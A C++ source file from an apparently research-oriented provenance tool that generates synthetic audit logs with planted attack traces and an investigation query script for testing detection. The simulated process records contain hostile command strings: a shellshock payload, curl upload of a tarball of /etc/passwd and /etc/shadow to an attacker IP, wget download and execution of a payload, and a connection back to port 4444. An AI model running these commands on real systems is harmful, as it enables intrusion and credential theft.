#include "provql/scenario.hpp"

#include <algorithm>
#include <array>
#include <fstream>

namespace provql {

using nlohmann::json;

std::uint64_t Rng::below(std::uint64_t n) {
    // Lemire's multiply-shift with rejection, so results do not depend on
    // the standard library's distribution implementations.
    unsigned __int128 m = static_cast<unsigned __int128>(next()) * n;
    auto low = static_cast<std::uint64_t>(m);
    if (low < n) {
        const std::uint64_t t = -n % n;
        while (low < t) {
            m = static_cast<unsigned __int128>(next()) * n;
            low = static_cast<std::uint64_t>(m);
        }
    }
    return static_cast<std::uint64_t>(m >> 64);
}

std::int64_t Rng::range(std::int64_t lo, std::int64_t hi) {
    return lo + static_cast<std::int64_t>(below(static_cast<std::uint64_t>(hi - lo) + 1));
}

std::string_view to_string(AttackTemplate t) {
    switch (t) {
        case AttackTemplate::DataLeakage: return "data-leakage";
        case AttackTemplate::ShellshockPenetration: return "shellshock-penetration";
        case AttackTemplate::WgetExecutable: return "wget-executable";
    }
    return "?";
}

std::optional<AttackTemplate> parse_template(std::string_view text) {
    for (auto t : {AttackTemplate::DataLeakage, AttackTemplate::ShellshockPenetration, AttackTemplate::WgetExecutable}) {
        if (to_string(t) == text) return t;
    }
    return std::nullopt;
}

json GroundTruth::to_json() const {
    json hosts_json = json::object();
    for (const auto& [host, t] : hosts) hosts_json[host] = {{"entities", t.entities}, {"events", t.events}};
    return {{"template", std::string(provql::to_string(attack))},
            {"seed", seed},
            {"investigated_host", investigated_host},
            {"hosts", hosts_json}};
}

GroundTruth GroundTruth::from_json(const json& doc) {
    GroundTruth g;
    try {
        const auto t = parse_template(doc.at("template").get<std::string>());
        if (!t) throw ValidationError("unknown attack template");
        g.attack = *t;
        g.seed = doc.at("seed").get<std::uint64_t>();
        g.investigated_host = doc.at("investigated_host").get<std::string>();
        for (const auto& [host, t2] : doc.at("hosts").items()) {
            g.hosts[host] = {t2.at("entities").get<std::vector<std::string>>(),
                             t2.at("events").get<std::vector<std::string>>()};
        }
    } catch (const json::exception& e) {
        throw ValidationError(std::string("malformed ground truth: ") + e.what());
    }
    return g;
}

namespace {

constexpr Nanos kMs = kNanosPerMs;
constexpr Nanos kSec = kNanosPerSecond;
constexpr Nanos kBaseTime = 1'700'000'000 * kNanosPerSecond;

std::string basename_of(const std::string& path) {
    const auto slash = path.find_last_of('/');
    return slash == std::string::npos ? path : path.substr(slash + 1);
}

FileAttrs file(const std::string& path, const std::string& owner = "root") {
    return FileAttrs{basename_of(path), path, owner, owner};
}

NetworkAttrs sock(std::string srcip, std::int64_t srcport, std::string dstip, std::int64_t dstport) {
    return NetworkAttrs{std::move(srcip), srcport, std::move(dstip), dstport, "tcp"};
}

bool inbound(const std::string& syscall) {
    return syscall == "read" || syscall == "readv" || syscall == "recvfrom" || syscall == "recvmsg";
}

const std::array<const char*, 5> kLibs = {
    "/lib/x86_64-linux-gnu/libc.so.6", "/lib/x86_64-linux-gnu/libssl.so.3", "/lib/x86_64-linux-gnu/libz.so.1",
    "/lib/x86_64-linux-gnu/libpthread.so.0", "/lib64/ld-linux-x86-64.so.2"};

constexpr int kSrcFiles = 150;
constexpr int kObjFiles = 60;
constexpr int kGitObjects = 40;

class HostGen {
public:
    HostGen(Rng& rng, std::string host, std::string ip, Nanos span)
        : rng_(rng), host_(std::move(host)), ip_(std::move(ip)), span_(span) {
        systemd = make("systemd", "/lib/systemd/systemd", "root", "/sbin/init", 1);
        lighttpd = spawn("lighttpd", "/usr/sbin/lighttpd", "www-data", "/usr/sbin/lighttpd -D -f /etc/lighttpd/lighttpd.conf");
        sshd = spawn("sshd", "/usr/sbin/sshd", "root", "/usr/sbin/sshd -D");
        rsyslogd = spawn("rsyslogd", "/usr/sbin/rsyslogd", "syslog", "/usr/sbin/rsyslogd -n");
        cron = spawn("cron", "/usr/sbin/cron", "root", "/usr/sbin/cron -f");
        dev_shell = spawn("bash", "/usr/bin/bash", "dev", "-bash");
        vscode = spawn("vscode", "/usr/share/code/code", "dev", "/usr/share/code/code --no-sandbox");
    }

    const std::string& host() const { return host_; }
    const std::string& ip() const { return ip_; }

    ProcessAttrs make(const std::string& exename, const std::string& exepath, const std::string& user,
                      const std::string& cmdline, std::int64_t pid) {
        return ProcessAttrs{pid, exename, exepath, user, user, cmdline};
    }

    ProcessAttrs spawn(const std::string& exename, const std::string& exepath, const std::string& user,
                       const std::string& cmdline) {
        next_pid_ += rng_.range(1, 7);
        return make(exename, exepath, user, cmdline, next_pid_);
    }

    static RawRecord record(const std::string& syscall, const ProcessAttrs& subject, EntityAttrs object, Nanos ts,
                            Nanos dur, std::uint64_t bytes, const std::string& host) {
        RawRecord r;
        r.syscall = syscall;
        r.ts = ts;
        r.te = ts + dur;
        r.bytes = bytes;
        r.host = host;
        r.subject = subject;
        r.object = std::move(object);
        return r;
    }

    void noise(const std::string& syscall, const ProcessAttrs& subject, EntityAttrs object, Nanos ts, Nanos dur,
               std::uint64_t bytes) {
        noise_.push_back(record(syscall, subject, std::move(object), ts, dur, bytes, host_));
    }

    void attack(const std::string& syscall, const ProcessAttrs& subject, EntityAttrs object, Nanos ts, Nanos dur,
                std::uint64_t bytes) {
        attack_.push_back(record(syscall, subject, std::move(object), ts, dur, bytes, host_));
    }

    Nanos dur() { return rng_.range(10'000, 5 * kMs); }
    Nanos step() { return rng_.range(kMs, 40 * kMs); }
    std::uint64_t bytes(std::uint64_t lo, std::uint64_t hi) { return lo + rng_.below(hi - lo + 1); }

    std::string client_ip() {
        if (rng_.chance(0.5)) {
            return "10." + std::to_string(rng_.range(0, 255)) + "." + std::to_string(rng_.range(0, 255)) + "." +
                   std::to_string(rng_.range(1, 254));
        }
        return "192.168." + std::to_string(rng_.range(0, 255)) + "." + std::to_string(rng_.range(1, 254));
    }

    std::string src_file(int i) { return "/home/dev/project/src/mod" + std::to_string(i) + ".c"; }
    std::string obj_file(int i) { return "/home/dev/project/build/mod" + std::to_string(i) + ".o"; }
    std::string git_object(int i) { return "/home/dev/project/.git/objects/pack" + std::to_string(i); }

    // Background activity -----------------------------------------------------

    void setup() {
        const Nanos t = kBaseTime;
        noise("fork", systemd, lighttpd, t + 10 * kMs, dur(), 0);
        noise("read", lighttpd, file("/etc/lighttpd/lighttpd.conf"), t + 20 * kMs, dur(), 2048);
        noise("fork", systemd, sshd, t + 30 * kMs, dur(), 0);
        noise("fork", systemd, rsyslogd, t + 40 * kMs, dur(), 0);
        noise("fork", systemd, cron, t + 50 * kMs, dur(), 0);
        noise("fork", sshd, dev_shell, t + 400 * kMs, dur(), 0);
        noise("read", dev_shell, file("/home/dev/.bashrc", "dev"), t + 450 * kMs, dur(), 3771);
        noise("fork", dev_shell, vscode, t + 900 * kMs, dur(), 0);
    }

    // Library loads of a freshly spawned process.
    Nanos load_libs(const ProcessAttrs& p, Nanos t) {
        t += step();
        noise("read", p, file(kLibs[0]), t, dur(), 832);
        t += step();
        noise("read", p, file(kLibs[1 + rng_.below(kLibs.size() - 1)]), t, dur(), 832);
        return t;
    }

    void web_request(Nanos t) {
        const auto s = sock(client_ip(), rng_.range(30000, 60999), ip_, 80);
        const Nanos d = dur();
        noise("read", lighttpd, s, t, d, bytes(200, 900));
        t += d + rng_.range(kMs, 20 * kMs);
        noise("write", lighttpd, s, t, dur(), bytes(500, 40000));
        t += step();
        noise("write", lighttpd, file("/var/log/lighttpd/access.log", "www-data"), t, dur(), bytes(80, 200));
    }

    void syslog_burst(Nanos t) {
        const int n = static_cast<int>(rng_.range(1, 5));
        for (int i = 0; i < n; ++i) {
            noise("write", rsyslogd, file("/var/log/syslog", "syslog"), t, dur(), bytes(60, 300));
            t += rng_.range(100 * kMs, 900 * kMs);
        }
    }

    void tool_run(Nanos t) {
        static const std::array<const char*, 4> kTools = {"gcc", "ld", "git", "python3"};
        const std::string tool = kTools[rng_.below(kTools.size())];
        const auto p = spawn(tool, "/usr/bin/" + tool, "dev", tool + " build");
        noise("fork", dev_shell, p, t, dur(), 0);
        t = load_libs(p, t);
        auto rd = [&](const std::string& path) {
            t += step();
            noise("read", p, file(path, "dev"), t, dur(), bytes(100, 20000));
        };
        auto wr = [&](const std::string& path) {
            t += step();
            noise("write", p, file(path, "dev"), t, dur(), bytes(100, 20000));
        };
        if (tool == "gcc") {
            rd("/usr/include/stdio.h");
            for (int i = 0, n = static_cast<int>(rng_.range(1, 3)); i < n; ++i) rd(src_file(rng_.below(kSrcFiles)));
            wr(obj_file(rng_.below(kObjFiles)));
        } else if (tool == "ld") {
            for (int i = 0, n = static_cast<int>(rng_.range(3, 8)); i < n; ++i) rd(obj_file(rng_.below(kObjFiles)));
            wr("/home/dev/project/build/app");
        } else if (tool == "git") {
            for (int i = 0, n = static_cast<int>(rng_.range(2, 6)); i < n; ++i) rd(src_file(rng_.below(kSrcFiles)));
            wr(git_object(rng_.below(kGitObjects)));
        } else {
            for (int i = 0, n = static_cast<int>(rng_.range(1, 3)); i < n; ++i) rd(src_file(rng_.below(kSrcFiles)));
            rd(git_object(rng_.below(kGitObjects)));
            wr(src_file(rng_.below(kSrcFiles)));
        }
    }

    void editor_session(Nanos t) {
        for (int i = 0, n = static_cast<int>(rng_.range(1, 4)); i < n; ++i) {
            t += step();
            const std::string path =
                rng_.chance(0.8) ? src_file(rng_.below(kSrcFiles)) : git_object(rng_.below(kGitObjects));
            noise("read", vscode, file(path, "dev"), t, dur(), bytes(100, 20000));
        }
        for (int i = 0, n = static_cast<int>(rng_.range(1, 2)); i < n; ++i) {
            t += step();
            noise("write", vscode, file(src_file(rng_.below(kSrcFiles)), "dev"), t, dur(), bytes(100, 20000));
        }
    }

    void editor_settings(Nanos t) { noise("write", vscode, file("/etc/ssl/openssl.cnf"), t, dur(), 10909); }

    void benign_curl(Nanos t) {
        const auto p = spawn("curl", "/usr/bin/curl", "dev", "curl -sSLO https://example.org/");
        noise("fork", dev_shell, p, t, dur(), 0);
        t = load_libs(p, t);
        t += step();
        noise("read", p, file("/etc/ssl/openssl.cnf"), t, dur(), 10909);
        const auto s = sock(ip_, rng_.range(32768, 60999), rng_.chance(0.5) ? "93.184.216.34" : "151.101.1.69", 443);
        t += step();
        noise("write", p, s, t, dur(), bytes(200, 700));
        t += step();
        noise("read", p, s, t, dur(), bytes(1000, 90000));
        t += step();
        noise("write", p, file("/home/dev/Downloads/page" + std::to_string(++pages_) + ".html", "dev"), t, dur(),
              bytes(1000, 90000));
    }

    void package_install(Nanos t) {
        const int pkg = ++packages_;
        const auto apt = spawn("apt", "/usr/bin/apt", "root", "apt install pkg" + std::to_string(pkg));
        noise("fork", dev_shell, apt, t, dur(), 0);
        t = load_libs(apt, t);
        const auto s = sock(ip_, rng_.range(32768, 60999), "91.189.91.39", 80);
        t += step();
        noise("write", apt, s, t, dur(), bytes(200, 400));
        for (int i = 0, n = static_cast<int>(rng_.range(1, 3)); i < n; ++i) {
            t += step();
            noise("read", apt, s, t, dur(), bytes(10000, 900000));
        }
        const std::string deb = "/var/cache/apt/archives/pkg" + std::to_string(pkg) + ".deb";
        t += step();
        noise("write", apt, file(deb), t, dur(), bytes(10000, 900000));
        const auto dpkg = spawn("dpkg", "/usr/bin/dpkg", "root", "dpkg -i " + deb);
        t += step();
        noise("fork", apt, dpkg, t, dur(), 0);
        t += step();
        noise("read", dpkg, file(deb), t, dur(), bytes(10000, 900000));
        t += step();
        noise("write", dpkg, file("/usr/lib/pkg" + std::to_string(pkg) + "/libpkg.so"), t, dur(),
              bytes(10000, 900000));
    }

    void cron_job(Nanos t) {
        const auto p = spawn("logrotate", "/usr/sbin/logrotate", "root", "logrotate /etc/logrotate.conf");
        noise("fork", cron, p, t, dur(), 0);
        t = load_libs(p, t);
        t += step();
        noise("read", p, file("/etc/logrotate.conf"), t, dur(), 700);
        t += step();
        noise("read", p, file("/var/log/syslog", "syslog"), t, dur(), bytes(10000, 90000));
        t += step();
        RawRecord r = record("rename", p, file("/var/log/syslog.1", "syslog"), t, dur(), 0, host_);
        r.oldpath = "/var/log/syslog";
        noise_.push_back(std::move(r));
    }

    void fill_noise(std::size_t budget) {
        if (budget == 0) return;
        struct Kind {
            double weight;
            void (HostGen::*fn)(Nanos);
        };
        static const std::array<Kind, 8> kinds = {{
            {1.0, &HostGen::web_request},
            {6.0, &HostGen::syslog_burst},
            {8.0, &HostGen::tool_run},
            {10.0, &HostGen::editor_session},
            {1.0, &HostGen::benign_curl},
            {0.6, &HostGen::package_install},
            {0.3, &HostGen::editor_settings},
            {0.5, &HostGen::cron_job},
        }};
        double total = 0;
        for (const auto& k : kinds) total += k.weight;
        while (noise_.size() < budget) {
            const Nanos t = kBaseTime + 2 * kSec + static_cast<Nanos>(rng_.below(static_cast<std::uint64_t>(span_ - 4 * kSec)));
            double pick = rng_.unit() * total;
            for (const auto& k : kinds) {
                pick -= k.weight;
                if (pick < 0) {
                    (this->*k.fn)(t);
                    break;
                }
            }
        }
        noise_.resize(budget);
    }

    HostLog finish(HostTruth& truth) {
        for (const auto& r : attack_) {
            const EntityAttrs subject{r.subject};
            const EntityAttrs& src = inbound(r.syscall) ? r.object : subject;
            const EntityAttrs& dst = inbound(r.syscall) ? subject : r.object;
            const Entity s(0, src);
            const Entity d(0, dst);
            Event ev;
            ev.op = *parse_op(r.syscall);
            ev.start = r.ts;
            ev.end = r.te;
            ev.amount = r.bytes;
            truth.events.push_back(fingerprint(ev, s, d));
            truth.entities.push_back(s.key);
            truth.entities.push_back(d.key);
        }
        std::sort(truth.events.begin(), truth.events.end());
        std::sort(truth.entities.begin(), truth.entities.end());
        truth.entities.erase(std::unique(truth.entities.begin(), truth.entities.end()), truth.entities.end());

        HostLog log{host_, ip_, std::move(noise_)};
        log.records.insert(log.records.end(), attack_.begin(), attack_.end());
        std::stable_sort(log.records.begin(), log.records.end(),
                         [](const RawRecord& a, const RawRecord& b) { return a.ts < b.ts; });
        return log;
    }

    ProcessAttrs systemd, lighttpd, sshd, rsyslogd, cron, dev_shell, vscode;
    std::vector<RawRecord> noise_;
    std::vector<RawRecord> attack_;

private:
    Rng& rng_;
    std::string host_;
    std::string ip_;
    Nanos span_;
    std::int64_t next_pid_ = 300;
    int pages_ = 0;
    int packages_ = 0;
};

// Attack plants ---------------------------------------------------------------

// Host1 side of the data-leakage case: a shellshock request to the web
// server spawns a shell, which pulls an archive from host2 with scp and
// sends it to the attacker with curl.
void plant_data_leakage(HostGen& h1, HostGen* h2, Rng& rng, Nanos at, bool noisy) {
    auto gap = [&] { return rng.range(2 * kSec, 5 * kSec); };
    auto d = [&] { return rng.range(kMs, 10 * kMs); };
    const auto bash = h1.spawn("bash", "/usr/bin/bash", "www-data", "/bin/bash -c () { :; }; /bin/bash -i");
    const auto scp = h1.spawn("scp", "/usr/bin/scp", "www-data", "scp root@host2:/tmp/sensitive_data.tar /tmp/");
    const auto curl = h1.spawn("curl", "/usr/bin/curl", "www-data",
                               std::string("curl -T /tmp/sensitive_data.tar http://") + kAttackerIp + "/upload");
    const auto s1 = sock(kAttackerIp, 51234, "13.66.254.172", 80);
    const std::string h2ip = h2 ? h2->ip() : "13.66.254.173";
    const auto s2 = sock(h1.ip(), 41022, h2ip, 22);
    const auto s3 = sock(h1.ip(), 44380, kAttackerIp, 80);
    const auto tarfile = file("/tmp/sensitive_data.tar", "www-data");

    Nanos t = at;
    h1.attack("read", h1.lighttpd, s1, t, d(), 731);
    t += gap();
    h1.attack("fork", h1.lighttpd, bash, t, d(), 0);
    t += gap();
    h1.attack("fork", bash, scp, t, d(), 0);
    t += gap();
    h1.attack("write", scp, s2, t, d(), 412);
    const Nanos request = t;
    t += 25 * kSec;
    if (h2) {
        const auto bash2 = h2->spawn("bash", "/usr/bin/bash", "root", "bash -c tar cf /tmp/sensitive_data.tar");
        const auto tar = h2->spawn("tar", "/usr/bin/tar", "root", "tar cf /tmp/sensitive_data.tar /etc/passwd /etc/shadow");
        const auto scp2 = h2->spawn("scp", "/usr/bin/scp", "root", "scp -f /tmp/sensitive_data.tar");
        const auto tar2 = file("/tmp/sensitive_data.tar");
        Nanos u = request + kSec;
        auto next = [&] { return u += rng.range(1500 * kMs, 2500 * kMs); };
        h2->attack("read", h2->sshd, s2, u, d(), 412);
        h2->attack("fork", h2->sshd, bash2, next(), d(), 0);
        h2->attack("fork", bash2, tar, next(), d(), 0);
        h2->attack("read", tar, file("/etc/passwd"), next(), d(), 2790);
        h2->attack("read", tar, file("/etc/shadow"), next(), d(), 1424);
        h2->attack("write", tar, tar2, next(), d(), 10240);
        h2->attack("fork", bash2, scp2, next(), d(), 0);
        h2->attack("read", scp2, tar2, next(), d(), 10240);
        h2->attack("write", scp2, s2, next(), d(), 10240);
    }
    h1.attack("read", scp, s2, t, d(), 10240);
    t += gap();
    h1.attack("write", scp, tarfile, t, d(), 10240);
    t += gap();
    h1.attack("fork", bash, curl, t, d(), 0);
    const Nanos forked = t;
    t += gap();
    const Nanos rd = d();
    h1.attack("read", curl, tarfile, t, rd, 10240);
    h1.attack("write", curl, s3, t + rd + 300 * kMs, d(), 10240);
    if (noisy) h1.noise("read", curl, file("/etc/ssl/openssl.cnf"), forked + kSec, d(), 10909);
}

void plant_shellshock(HostGen& h, Rng& rng, Nanos at) {
    auto gap = [&] { return rng.range(2 * kSec, 5 * kSec); };
    auto d = [&] { return rng.range(kMs, 10 * kMs); };
    const auto bash = h.spawn("bash", "/usr/bin/bash", "www-data", "/bin/bash -c () { :; }; /bin/bash -i");
    Nanos t = at;
    h.attack("read", h.lighttpd, sock(kAttackerIp, 51234, h.ip(), 80), t, d(), 652);
    h.attack("fork", h.lighttpd, bash, t += gap(), d(), 0);
    h.attack("read", bash, file("/etc/passwd"), t += gap(), d(), 2790);
    h.attack("write", bash, sock(h.ip(), 45001, kAttackerIp, 4444), t += gap(), d(), 2790);
}

void plant_wget(HostGen& h, Rng& rng, Nanos at) {
    auto gap = [&] { return rng.range(2 * kSec, 5 * kSec); };
    auto d = [&] { return rng.range(kMs, 10 * kMs); };
    const auto bash = h.spawn("bash", "/usr/bin/bash", "www-data", "/bin/bash -c () { :; }; /bin/bash -i");
    const auto wget = h.spawn("wget", "/usr/bin/wget", "www-data", std::string("wget http://") + kAttackerIp + "/payload");
    const auto payload = h.spawn("payload", "/tmp/payload", "www-data", "/tmp/payload");
    const auto bin = file("/tmp/payload", "www-data");
    Nanos t = at;
    h.attack("read", h.lighttpd, sock(kAttackerIp, 51234, h.ip(), 80), t, d(), 652);
    h.attack("fork", h.lighttpd, bash, t += gap(), d(), 0);
    h.attack("fork", bash, wget, t += gap(), d(), 0);
    h.attack("read", wget, sock(h.ip(), 46000, kAttackerIp, 80), t += gap(), d(), 88000);
    h.attack("write", wget, bin, t += gap(), d(), 88000);
    h.attack("fork", bash, payload, t += gap(), d(), 0);
    h.attack("read", payload, bin, t += gap(), d(), 88000);
    h.attack("write", payload, sock(h.ip(), 46001, kAttackerIp, 8080), t += gap(), d(), 4096);
}

}  // namespace

Scenario generate(const ScenarioSpec& spec) {
    if (spec.hosts < 1) throw ValidationError("scenario needs at least one host");
    if (spec.time_span < 120 * kSec) throw ValidationError("scenario time span must be at least two minutes");
    Rng rng(spec.seed);
    std::vector<HostGen> gens;
    for (int i = 0; i < spec.hosts; ++i) {
        gens.emplace_back(rng, "host" + std::to_string(i + 1), "13.66.254." + std::to_string(172 + i), spec.time_span);
    }
    const bool noisy = spec.noise_events > 0;
    const Nanos at = kBaseTime + spec.time_span * 6 / 10 + static_cast<Nanos>(rng.below(spec.time_span / 20));

    for (auto& g : gens) {
        if (!noisy) continue;
        g.setup();
        // Editor writes to the shared TLS config ahead of the attack.
        for (int pct : {10, 30, 55}) g.editor_settings(kBaseTime + spec.time_span * pct / 100);
    }
    switch (spec.attack) {
        case AttackTemplate::DataLeakage:
            plant_data_leakage(gens[0], gens.size() > 1 ? &gens[1] : nullptr, rng, at, noisy);
            break;
        case AttackTemplate::ShellshockPenetration: plant_shellshock(gens[0], rng, at); break;
        case AttackTemplate::WgetExecutable: plant_wget(gens[0], rng, at); break;
    }
    for (auto& g : gens) g.fill_noise(spec.noise_events);

    Scenario out;
    out.truth.attack = spec.attack;
    out.truth.seed = spec.seed;
    out.truth.investigated_host = gens[0].host();
    for (auto& g : gens) {
        HostTruth truth;
        out.hosts.push_back(g.finish(truth));
        out.truth.hosts[out.hosts.back().host] = std::move(truth);
    }
    return out;
}

void write_scenario(const Scenario& s, const std::filesystem::path& dir) {
    std::filesystem::create_directories(dir);
    for (const auto& h : s.hosts) {
        std::ofstream out(dir / (h.host + ".jsonl"), std::ios::binary);
        if (!out) throw Error("cannot write into '" + dir.string() + "'");
        for (const auto& r : h.records) out << to_jsonl(r) << '\n';
    }
    std::ofstream gt(dir / "ground_truth.json", std::ios::binary);
    gt << s.truth.to_json().dump(1) << '\n';
    if (!gt) throw Error("cannot write ground truth into '" + dir.string() + "'");
}

Store ingest_host(const HostLog& log, const ReductionConfig& cfg, IngestStats* stats) {
    IngestStats local;
    const Store empty(log.host, {}, {});
    Store s = ingest_batch(empty, log.records, cfg, stats ? *stats : local);
    return s;
}

std::string investigation_script(const std::string& host) {
    const std::string db = "db(" + host + ")";
    return "search from " + db +
           " where e1{name=\"curl\", type=process}, e2{path like \"%.tar\"}, e3{type=network}"
           " with e2[read]->e1 &&[<1s] e1[write]->e3 return * as poi1;\n"
           "g2 = back track poi1 from " + db + " exclude nodes where name=\"vscode\" limit step 2;\n"
           "search from g2 where e1{name=\"scp\"}, e2{type=network} with e2[read]->e1 return *;\n"
           "g3 = back track where exename=\"curl\" from " + db + " exclude nodes where name=\"vscode\";\n"
           "search from g3 where e1{srcip=\"" + kAttackerIp + "\" || dstip=\"" + kAttackerIp +
           "\"}, e2{type=process} with e1[read]->e2 return * as poi2;\n"
           "g4 = g2 | g3;\n"
           "g5 = forward track poi2 from g4 exclude nodes where name=\"vscode\";\n"
           "display g5;\n";
}

}  // namespace provql
